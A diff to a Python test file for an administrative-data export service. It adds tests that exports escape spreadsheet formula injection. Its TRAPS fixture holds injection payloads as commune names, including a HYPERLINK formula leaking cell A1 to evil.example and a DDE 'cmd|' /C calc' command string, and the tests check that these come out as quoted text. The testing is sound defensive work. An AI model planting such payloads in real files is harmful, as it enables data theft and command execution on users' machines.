@@ -17,11 +17,21 @@ import pytest
 from sqlalchemy import text
 
 from data import export, tables
+from data.cells import safe_text
 from data.db import make_engine
 from data.export import Sheet, write_xlsx
 from data.scope import FULL
 from tests.conftest import post_callback, signed_client
 from tests.test_tables import CHU_SE, UNDER_64
+
+# names a unit should never have, each a formula to a spreadsheet
+TRAPS = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+    "+1",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1",
+)
 
 INCIDENTS_2024 = (
     f"SELECT COUNT(*) FROM incident WHERE unit_id IN ({UNDER_64}) "
@@ -343,3 +353,97 @@ def test_a_large_workbook_is_written_in_the_background(seeded, make_app) -> None
         is None
     )
     assert client.get("/export/job/not-a-job.xlsx").status_code == 404
+
+
+@pytest.fixture
+def trapped(seeded):  # type: ignore[no-untyped-def]
+    """Five communes of Chư Sê renamed as formulas (``TRAPS``), their codes and
+    names; the real names come back afterwards (the database is shared)."""
+    engine = make_engine(seeded["DATABASE_URL"])
+    with engine.begin() as conn:
+        found = conn.execute(
+            text(
+                f"SELECT id, code, name FROM admin_unit WHERE code IN ({CHU_SE}) "
+                "AND tree = 'legacy' ORDER BY code"
+            )
+        ).all()[:5]
+        for (unit_id, _code, _name), trap in zip(found, TRAPS, strict=True):
+            conn.execute(
+                text("UPDATE admin_unit SET name = :n WHERE id = :i"),
+                {"n": trap, "i": unit_id},
+            )
+    try:
+        yield {code: trap for (_i, code, _n), trap in zip(found, TRAPS, strict=True)}
+    finally:
+        with engine.begin() as conn:
+            for unit_id, _code, name in found:
+                conn.execute(
+                    text("UPDATE admin_unit SET name = :n WHERE id = :i"),
+                    {"n": name, "i": unit_id},
+                )
+        engine.dispose()
+
+
+def test_no_text_becomes_a_formula(client_as, trapped) -> None:  # type: ignore[no-untyped-def]
+    client = client_as("province")
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                _get(client, "reports", "csv", unit="633").data.decode("utf-8-sig")
+            )
+        )
+    )
+    names = {r[0]: r[1] for r in rows[1:]}
+    assert set(trapped) <= set(names)
+    for code, trap in trapped.items():
+        assert names[code] == "'" + trap
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r
+    )
+    response = _get(client, "reports", "xlsx", unit="633")
+    ws = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
+    _lines, _header, data, header_at = _sheet_frame(ws)
+    shown = {}
+    for i, row in enumerate(data, start=header_at + 2):
+        if row[0] in trapped:
+            cell = ws.cell(row=i, column=2)
+            assert cell.data_type == "s"
+            shown[row[0]] = cell.value
+    assert shown == {code: "'" + trap for code, trap in trapped.items()}
+    formulas = [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
+    assert formulas == []
+
+
+def test_numbers_stay_numbers_and_text_stays_text(tmp_path) -> None:  # type: ignore[no-untyped-def]
+    assert safe_text(-5) == -5 and safe_text(-2.5) == -2.5
+    assert safe_text("Xã Ia Blang") == "Xã Ia Blang"
+    assert safe_text("-2+3") == "'-2+3" and safe_text("\r=1") == "'\r=1"
+    spec = tables.TABLES["fund"]
+    frame = pd.DataFrame(
+        {
+            "code": ["23941", "-1"],
+            "unit": ["=1+1", "#N/A"],
+            "parent": ["@A1", "Huyện Chư Sê"],
+            "level": ["Thị trấn", "Xã"],
+            "month": [dt.date(2024, 1, 1)] * 2,
+            "kind": ["Tiền mặt"] * 2,
+            "contributions": [-3, 2],
+            "amount": [-1_234_567, 1_000],
+            tables.SUPPRESSED: [False] * 2,
+        }
+    )
+    text_ = "".join(export.csv_chunks(spec, [frame], "vi"))
+    rows = list(csv.reader(io.StringIO(text_.removeprefix(export.BOM))))
+    assert rows[1][:3] == ["23941", "'=1+1", "'@A1"]
+    assert rows[2][:2] == ["'-1", "#N/A"]
+    assert rows[1][-2:] == ["-3", "-1234567"]  # numbers, not quoted text
+    path = tmp_path / "signs.xlsx"
+    write_xlsx(path, [Sheet(spec, ("-filter line",), [frame])])
+    ws = openpyxl.load_workbook(path).worksheets[0]
+    _l, _h, data, header_at = _sheet_frame(ws)
+    assert data[0][:3] == ["23941", "'=1+1", "'@A1"]
+    assert data[1][:2] == ["'-1", "#N/A"]
+    assert ws.cell(row=header_at + 3, column=2).data_type == "s"  # not an error
+    assert data[0][-2:] == [-3, -1_234_567]
+    assert ws.cell(row=header_at + 2, column=8).data_type == "n"
+    assert ws.cell(row=2, column=1).value == "'-filter line"
